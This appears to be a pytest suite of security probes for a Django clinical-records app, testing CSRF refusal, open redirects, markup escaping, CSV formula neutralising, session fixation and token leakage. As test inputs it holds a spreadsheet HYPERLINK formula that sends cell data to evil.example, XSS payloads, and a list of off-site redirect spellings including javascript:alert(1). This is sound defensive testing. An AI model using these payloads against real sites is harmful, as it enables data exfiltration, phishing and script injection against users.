"""Security probes across every URL: what the permission matrix does not ask."""

import csv
import datetime
import io
import re
from decimal import Decimal
from urllib.parse import urlsplit

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import TemporaryFileUploadHandler
from django.db import connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from kapstone.accounts import tasks as accounts_tasks
from kapstone.accounts.models import AccountLink
from kapstone.accounts.services import account_link_create
from kapstone.audit.models import AuditEvent
from kapstone.creativity.services import CreativityError
from kapstone.integration.models import IntegrationNote, JournalEntry
from kapstone.program.models import Enrolment, Unavailability
from tests.conftest import signed_in_client
from tests.dosing.helpers import receive_stock
from tests.foundation.test_login import current_code
from tests.integration_app.factories import integration_session_after
from tests.matrix import SIGNED_IN
from tests.probes import rolled_back
from tests.test_mixed_ids import _dosing_session_of_dana, _rows_digest
from tests.test_permission_matrix import ROUTES


@pytest.mark.parametrize("name", sorted(n for n, r in ROUTES.items() if not r.public))
def test_staff_who_have_not_passed_the_second_factor_reach_no_page(name, cast):
    route = ROUTES[name]
    url = reverse(name, kwargs=route.kwargs(cast))
    for role in ("admin", "bob", "therapist", "nurse", "researcher"):
        client = Client()
        client.force_login(cast.user(role))
        for method in ("get", "post"):
            response = getattr(client, method)(url)
            assert response.status_code in (302, 405), f"{role} {method} {name}: {response.status_code}"
            if response.status_code == 302:
                assert response.url.startswith(reverse("accounts:login")), (role, method, name, response.url)


# --- spreadsheet formulas in downloads --------------------------------------------------------------------------


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.content.decode())))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [
        cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r") or cell.startswith("-=")
    ]


def test_the_controlled_substance_log_csv_holds_no_formula(cast):
    receive_stock(
        actor=cast.nurse,
        drug="ketamine",
        form="lozenge",
        strength=Decimal("100"),
        lot_number=FORMULA[:40],
        expires_on=datetime.date(2030, 1, 1),
        location="Main safe",
        amount_mg=Decimal("1000"),
    )
    rows = _csv_rows(signed_in_client(cast.nurse).get(reverse("dosing:ledger_export", args=["csv"])))
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
    assert _formula_cells(rows) == []


# --- stored script in what patients and staff type --------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMAGE = "\"'><img src=x onerror=alert(2)>"


def _seed_hostile_text(cast):
    """Alice's name, diagnosis, journal and messages, written with markup."""
    from kapstone.messaging import services as messaging_services
    from kapstone.patients.models import Diagnosis
    from tests.integration_app.factories import journal_entry

    cast.alice.given_name = SCRIPT[:40]
    cast.alice.family_name = IMAGE[:40]
    cast.alice.preferred_name = SCRIPT[:40]
    cast.alice.save()
    Diagnosis.objects.filter(patient=cast.alice).update(description=IMAGE)
    journal_entry(cast.alice, text=SCRIPT + IMAGE, shared=True)
    messaging_services.thread_start(actor=cast.alice_user, patient=cast.alice, subject=SCRIPT[:40], body=SCRIPT + IMAGE)


def _kwargs_of(route, cast) -> dict | None:
    """The route's arguments, built beside every other route's rows; None where they clash (the permission matrix
    builds each alone): a creativity task is never put due on a day a route before it made a dosing day."""
    try:
        with transaction.atomic():
            return route.kwargs(cast)
    except CreativityError:
        return None


def _markup_of(response) -> str:
    kind = response.get("Content-Type", "")
    if response.status_code != 200 or not kind.startswith(("text/html", "image/svg")):
        return ""
    return b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()


def test_typed_markup_is_escaped_on_every_page(cast):
    _seed_hostile_text(cast)
    clients = {role: signed_in_client(cast.user(role)) for role in SIGNED_IN}
    asked, shown, skipped = 0, 0, []
    for name, route in sorted(ROUTES.items()):
        if route.public or route.method != "get":
            continue
        kwargs = _kwargs_of(route, cast)
        if kwargs is None:
            skipped.append(name)
            continue
        url = reverse(name, kwargs=kwargs)
        for role in sorted(route.allow):
            page = _markup_of(clients[role].get(url))
            asked += bool(page)
            shown += "&lt;script&gt;alert" in page
            assert "<script>alert" not in page and "<img src=x" not in page, f"{role} on {name}"
    assert asked > 100 and len(skipped) < 5, skipped
    assert shown > 20, "the markup was shown (escaped) on the pages that name alice"


# --- a GET never writes -----------------------------------------------------------------------------------------


# What opening a page may write, and why it is harmless to have it written by a link someone else planted.
WRITTEN_BY_READING = {
    # When the reader last read the thread: what "unread" counts from.
    ("messaging:my_thread", "messaging_threadread"),
    ("messaging:thread", "messaging_threadread"),
    # The report computed once and kept, so the next reader waits less; it changes no patient's record.
    ("outcomes:report", "outcomes_reportsnapshot"),
    # Storing it forgets the records of changes it has read (snapshots.store).
    ("outcomes:report", "outcomes_inputchange"),
    # The emailed questionnaire link is spent by its own patient's opening it; another's token is a 404.
    ("portal:invitation", "measures_invitation"),
}


def test_opening_a_page_changes_no_record(cast):
    """A link followed (a prefetching mail scanner, an <img> on another site) must not change anything: every
    change is a POST, where the CSRF check applies."""
    wrote, clients = [], {role: signed_in_client(cast.user(role)) for role in SIGNED_IN}
    for name, route in sorted(ROUTES.items()):
        if route.method != "get":
            continue
        kwargs = _kwargs_of(route, cast)
        if kwargs is None:
            continue
        url = reverse(name, kwargs=kwargs)
        before = _rows_digest()
        for role in sorted(route.allow | route.not_found):
            clients[role].get(url)
            after = _rows_digest()
            changed = sorted(
                table
                for table, digest in after.items()
                if before.get(table) != digest and (name, table) not in WRITTEN_BY_READING
            )
            if changed:
                wrote.append((name, role, changed))
            before = after
    assert wrote == [], "\n".join(map(str, wrote))


# --- emailed links ----------------------------------------------------------------------------------------------

NEW_PASSWORD = "a-brand-new-long-passphrase"


def _link(user, purpose) -> str:
    return account_link_create(user=user, purpose=purpose, lifetime=datetime.timedelta(hours=1))


def _sets_a_password(token: str) -> bool:
    url = reverse("accounts:set_password", args=[token])
    return Client().post(url, {"new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD}).status_code == 302


def test_a_password_set_by_one_link_ends_the_person_s_other_links(cast):
    invitation = _link(cast.alice_user, AccountLink.Purpose.PORTAL_INVITATION)
    reset = _link(cast.alice_user, AccountLink.Purpose.PASSWORD_RESET)
    assert _sets_a_password(reset)
    assert not _sets_a_password(invitation)


def test_changing_a_password_ends_a_reset_link_not_yet_used(cast):
    reset = _link(cast.alice_user, AccountLink.Purpose.PASSWORD_RESET)
    client = signed_in_client(cast.alice_user)
    response = client.post(
        reverse("accounts:password_change"),
        {"old_password": "correct-horse-battery", "new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD},
    )
    assert response.status_code == 302
    assert not _sets_a_password(reset)


# --- ids chosen in a posted form --------------------------------------------------------------------------------


def test_a_patient_outside_the_care_team_cannot_be_posted_into_a_group(cast):
    group = cast.dosing_session().group
    client = signed_in_client(cast.bob)
    for name, fields in (
        ("program:enrol", {"enrol-patient": cast.dana.pk}),
        ("program:waitlist", {"waitlist-patient": cast.dana.pk, "waitlist-reason": "next cohort"}),
    ):
        response = client.post(reverse(name, args=[group.pk]), fields)
        assert response.status_code == 400, name
        assert "Delacroix" not in response.content.decode()
    assert not Enrolment.objects.filter(patient=cast.dana).exists()


def test_a_note_cannot_be_linked_to_a_session_of_another_patient_s_group(cast):
    dana_session = _dosing_session_of_dana(cast)
    integration = integration_session_after(dana_session, hours=24)
    response = signed_in_client(cast.bob).post(
        reverse("integration:note_add", args=[cast.alice.pk]), {"session": integration.pk, "text": "Went well"}
    )
    assert response.status_code == 400
    assert not IntegrationNote.objects.exists()


def test_only_an_admin_records_away_dates_for_someone_else(cast):
    response = signed_in_client(cast.therapist).post(
        reverse("program:staff_away"),
        {"staff": cast.bob.pk, "first_day": datetime.date.today().isoformat(), "last_day": ""},
    )
    assert response.status_code == 400
    assert not Unavailability.objects.filter(staff=cast.bob).exists()


def test_a_researcher_sees_no_one_identified(cast):
    client = signed_in_client(cast.researcher)
    for name in ("home:home", "outcomes:report", "outcomes:research_export"):
        page = client.get(reverse(name)).content.decode()
        for identifier in ("Abernathy", "Delacroix", cast.alice.record_number, cast.alice.email):
            assert identifier not in page, (name, identifier)


# --- the second factor ------------------------------------------------------------------------------------------


def test_wrong_codes_at_the_second_step_lock_it_so_a_right_code_then_signs_no_one_in(cast, settings):
    client = Client()
    client.post(reverse("accounts:login"), {"username": "bob", "password": "correct-horse-battery"})
    second_step = reverse("accounts:sign_in_second_step")
    for _ in range(settings.AXES_FAILURE_LIMIT):
        assert client.post(second_step, {"otp_token": "000000"}).status_code in (400, 429)
    response = client.post(second_step, {"otp_token": current_code(cast.bob)})
    assert response.status_code in (302, 429) and response.get("Location", "") != reverse("home:home")
    assert client.get(reverse("patients:list")).url.startswith(reverse("accounts:login"))


# --- what a shared computer keeps after its reader signed out ---------------------------------------------------


def test_pages_that_show_a_record_are_kept_in_no_cache(cast):
    """The Back button after signing out shows what the browser's disk cache kept: no page of a record goes there."""
    pages = [
        (cast.bob, reverse("patients:detail", args=[cast.alice.pk])),
        (cast.alice_user, reverse("portal:home")),
        (cast.alice_user, reverse("integration:journal")),
        (cast.researcher, reverse("outcomes:research_export")),
    ]
    for user, url in pages:
        response = signed_in_client(user).get(url)
        assert response.status_code == 200, url
        assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"], url


def test_the_note_after_a_form_leaves_no_patient_s_name_in_a_cookie(cast):
    client = signed_in_client(cast.bob)
    response = client.post(
        reverse("messaging:patient_threads", args=[cast.alice.pk]), {"subject": "Tuesday", "body": "See you then"}
    )
    assert response.status_code == 302
    assert "messages" not in response.cookies, "the note naming the patient went into the browser's cookie jar"
    assert "Sent to Alice Abernathy." in client.get(response.url).content.decode()


def test_a_visitor_who_is_not_signed_in_is_given_no_session_for_a_note(cast):
    """The notes of someone not signed in name no one, and stay in a cookie: kept in the session, asking for the
    second sign-in step without a password made a session row each time, for anyone who asked."""
    from django.contrib.sessions.models import Session

    client = Client()
    response = client.get(reverse("accounts:sign_in_second_step"))
    assert response.status_code == 302 and not Session.objects.exists()
    assert "Enter your username and password" in client.get(response.url).content.decode()


# --- the size of an upload --------------------------------------------------------------------------------------


def test_an_upload_far_beyond_any_form_s_limit_is_refused_before_it_reaches_the_disk(cast, settings, monkeypatch):
    def written_to_disk(self, *args, **kwargs):
        raise AssertionError("the upload was being written to a temporary file")

    monkeypatch.setattr(TemporaryFileUploadHandler, "new_file", written_to_disk)
    settings.MAX_UPLOAD_REQUEST_BYTES = 16 * 1024
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024  # what is not refused goes to a temporary file
    upload = SimpleUploadedFile("big.png", b"\x89PNG" + b"\x00" * 64 * 1024, content_type="image/png")
    response = signed_in_client(cast.alice_user).post(
        reverse("integration:journal_new"),
        {"prompt": "free", "activity": "drawing", "activity_minutes": "10", "image": upload},
    )
    assert response.status_code == 400
    assert not JournalEntry.objects.exists()


# --- who has a login --------------------------------------------------------------------------------------------


def test_a_reset_request_is_answered_with_the_same_work_whether_or_not_a_login_matches(cast, monkeypatch):
    """A message sent while the visitor waits holds the answer for the mail server's round trip only when a login
    matched: timed, the form told whether an address is a patient's login. The request only queues the work."""
    cast.alice_user.email = "alice@mail.example"
    cast.alice_user.save()
    queued = []
    monkeypatch.setattr(accounts_tasks.send_password_reset, "delay", lambda *args: queued.append(args))
    answers = []
    for identifier in ("alice@mail.example", "nobody@mail.example"):
        with CaptureQueriesContext(connection) as queries:
            response = Client().post(reverse("accounts:password_reset"), {"identifier": identifier})
        answers.append((response.status_code, response["Location"], len(queries)))
    assert answers[0] == answers[1], answers
    assert mail.outbox == [] and not AccountLink.objects.exists()
    assert [identifier for identifier, _ in queued] == ["alice@mail.example", "nobody@mail.example"]
    accounts_tasks.send_password_reset(*queued[0])  # the worker's part: the link and its message
    assert len(mail.outbox) == 1 and mail.outbox[0].to == ["alice@mail.example"]
    requested = AuditEvent.objects.get(object_type="password_reset_requested")
    assert (requested.actor_label, requested.ip_address) == ("anonymous", "127.0.0.1"), "who asked, from where"


# --- a link's secret in the logs and the audit trail ------------------------------------------------------------


def test_a_live_password_link_reaches_no_log_and_no_other_site(cast, caplog):
    """A password too short is answered 400, which Django's request log writes with the path: the link, still
    live, went to whoever reads the server's logs. Its page's own requests (the style sheet) must not carry it
    in a Referer to a proxy's access log either."""
    token = _link(cast.alice_user, AccountLink.Purpose.PORTAL_INVITATION)
    url = reverse("accounts:set_password", args=[token])
    client = Client()
    assert client.get(url)["Referrer-Policy"] == "strict-origin"
    response = client.post(url, {"new_password1": "short", "new_password2": "short"})
    assert response.status_code == 400 and response["Referrer-Policy"] == "strict-origin"
    assert caplog.records, "the refusal is still logged"
    assert not [record for record in caplog.records if token in record.getMessage()]
    assert _sets_a_password(token), "the link still works"


def test_another_s_questionnaire_link_leaves_no_secret_in_the_audit_trail(cast):
    from kapstone.measures import services as measures_services
    from tests.measures.factories import due_assessment

    _, token = measures_services.invitation_create(assessment=due_assessment(cast.alice))
    response = signed_in_client(cast.dana_user).get(reverse("portal:invitation", args=[token]))
    assert response.status_code == 404
    denied = AuditEvent.objects.get(object_type="access_denied")
    assert token not in denied.detail and "/portal/i/" in denied.detail, denied.detail


# --- JSON sent to the passkey endpoints -------------------------------------------------------------------------


def test_json_nested_past_python_s_recursion_limit_is_refused_not_a_server_error(cast):
    """The passkey endpoints read their JSON before asking whether a sign-in is under way, so anyone could make the
    server fail (500, a traceback in the error log) with a body of brackets."""
    body = b"[" * 10_000
    answers = [
        Client(raise_request_exception=False).post(reverse(name), body, content_type="application/json")
        for name in ("accounts:passkey_sign_in_begin", "accounts:passkey_sign_in_complete")
    ]
    staff = signed_in_client(cast.bob)
    staff.raise_request_exception = False
    answers.append(staff.post(reverse("accounts:passkey_enrol_complete"), body, content_type="application/json"))
    assert [answer.status_code for answer in answers] == [400, 400, 400]
    assert all(answer.json()["code"] == "passkey_refused" for answer in answers)


# --- controls that reorder shown text, spelt as JSON escapes -----------------------------------------------------


def test_a_setting_s_json_keeps_no_control_that_reorders_its_text(cast):
    """The middleware drops the controls from what a form sends, but a JSON escape spells one as plain ASCII,
    and json.loads decodes it after: a site name, or a number in one, shown reversed."""
    from kapstone.practice.models import PracticeSetting
    from kapstone.program.sites import SITES_KEY

    response = signed_in_client(cast.admin).post(
        reverse("practice:settings"),
        {
            "key": SITES_KEY,
            "action": "change",
            "value": '["Main office", "North \\u202e0123\\u202c", "\\u2066South\\u2069"]',
            "reason": "Sites",
        },
    )
    assert response.status_code == 302
    assert PracticeSetting.objects.get(key=SITES_KEY).value == ["Main office", "North 0123", "South"]


def test_a_note_written_as_someone_signs_out_or_in_is_shown_once(cast):
    client = signed_in_client(cast.alice_user)
    response = client.post(reverse("accounts:logout"))
    assert "You are signed out." in client.get(response.url).content.decode()
    assert "You are signed out." not in client.get(response.url).content.decode()
    client = Client()
    client.get(reverse("accounts:sign_in_second_step"))  # a note kept for a visitor not signed in
    client.force_login(cast.alice_user)
    assert "Enter your username and password" in client.get(reverse("portal:home")).content.decode()
    assert "Enter your username and password" not in client.get(reverse("portal:home")).content.decode()


def test_sessions_that_have_ended_are_deleted_by_a_sweep(cast, settings):
    """An ended session's row names who signed in (and holds any note not yet shown): nothing deleted them."""
    from django.contrib.sessions.models import Session
    from django.utils import timezone

    ended, live = signed_in_client(cast.alice_user), signed_in_client(cast.bob)
    Session.objects.filter(session_key=ended.session.session_key).update(
        expire_date=timezone.now() - datetime.timedelta(seconds=1)
    )
    schedule = {entry["task"] for entry in settings.CELERY_BEAT_SCHEDULE.values()}
    assert "kapstone.accounts.tasks.clear_expired_sessions" in schedule
    assert accounts_tasks.clear_expired_sessions() == 1
    assert list(Session.objects.values_list("session_key", flat=True)) == [live.session.session_key]


# --- where a form sends its sender next -------------------------------------------------------------------------

# Addresses a browser takes to another site, spelt as the checks that compare text alone miss them.
OFF_SITE = [
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "https:evil.example",
    "/%2F/evil.example/",
    "/\t/evil.example/",
    " //evil.example/",
    "http://testserver@evil.example/",
    "javascript:alert(1)",
    "\x01//evil.example/",
]


def _off_site(location: str) -> bool:
    """Whether a browser leaves the site for this Location: it drops leading controls and spaces and every tab and
    newline, and reads a backslash as a slash."""
    read = re.sub(r"[\t\n\r]", "", location.lstrip("".join(map(chr, range(33))))).replace("\\", "/")
    return read.startswith("//") or bool(urlsplit(read).scheme)


@pytest.mark.parametrize("sent", OFF_SITE)
def test_no_form_sends_its_sender_to_another_site(sent, cast):
    from tests.measures.factories import open_alert

    answer = Client().post(
        reverse("accounts:login") + "?next=" + sent, {"username": "alice", "password": "correct-horse-battery"}
    )
    assert answer.status_code == 302 and not _off_site(answer.url), answer.url
    answer = Client().post(
        reverse("accounts:login"), {"username": "alice", "password": "correct-horse-battery", "next": sent}
    )
    assert answer.status_code == 302 and not _off_site(answer.url), answer.url
    alert = open_alert(cast.alice)
    answer = signed_in_client(cast.bob).post(
        reverse("measures:acknowledge", args=[alert.pk]), {"note": "Called her; safety plan reviewed", "next": sent}
    )
    assert answer.status_code == 302 and not _off_site(answer.url), answer.url
    group = cast.dosing_session().group
    answer = signed_in_client(cast.bob).post(reverse("creativity:schedule_group", args=[group.pk]), {"next": sent})
    assert answer.status_code == 302 and not _off_site(answer.url), answer.url


# --- the session a sign-in makes and a sign-out ends ------------------------------------------------------------


def test_a_session_key_known_before_sign_in_is_not_the_signed_in_one_and_a_signed_out_one_opens_nothing(cast):
    """A key planted in the visitor's browser before they sign in (session fixation) is not the one they are signed
    in under, and a copy of the signed-in cookie taken before signing out opens no page after it."""
    from django.conf import settings

    client = Client()
    session = client.session  # a session of a visitor not signed in, whose key someone else has learnt
    session["planted"] = True
    session.save()
    planted = client.cookies[settings.SESSION_COOKIE_NAME].value
    client.post(reverse("accounts:login"), {"username": "alice", "password": "correct-horse-battery"})
    signed_in = client.cookies[settings.SESSION_COOKIE_NAME].value
    assert signed_in != planted
    assert client.get(reverse("portal:home")).status_code == 200
    stolen = Client()
    stolen.cookies[settings.SESSION_COOKIE_NAME] = signed_in
    assert stolen.get(reverse("portal:home")).status_code == 200
    client.post(reverse("accounts:logout"))
    answer = stolen.get(reverse("portal:home"))
    assert answer.status_code == 302 and answer.url.startswith(reverse("accounts:login"))
    replayed = Client()
    replayed.cookies[settings.SESSION_COOKIE_NAME] = planted
    answer = replayed.get(reverse("portal:home"))
    assert answer.status_code == 302 and answer.url.startswith(reverse("accounts:login"))


# --- a form sent from another site ------------------------------------------------------------------------------


def test_a_post_without_the_csrf_token_is_refused_on_every_url_and_changes_nothing(cast):
    """A page on another site can make a signed-in browser send a form to any address: every address refuses one
    that does not carry the token Kapstone's own pages give, before anything is read or written."""
    admitted = []
    for name, route in sorted(ROUTES.items()):
        if route.public:
            continue
        with rolled_back():
            kwargs = route.kwargs(cast)
            role = sorted(route.allow)[0]
            client = signed_in_client(cast.user(role), csrf_checks=True)
            before = _rows_digest()
            answer = client.post(reverse(name, kwargs=kwargs), {"confirm": "yes", "action": "issue"})
            if answer.status_code != 403 or "CSRF" not in answer.content.decode():
                admitted.append((name, role, answer.status_code))
            elif _rows_digest() != before:
                admitted.append((name, role, "wrote"))
    assert admitted == []
    signing_in = Client(enforce_csrf_checks=True)
    answer = signing_in.post(reverse("accounts:login"), {"username": "alice", "password": "correct-horse-battery"})
    assert answer.status_code == 403 and "_auth_user_id" not in signing_in.session
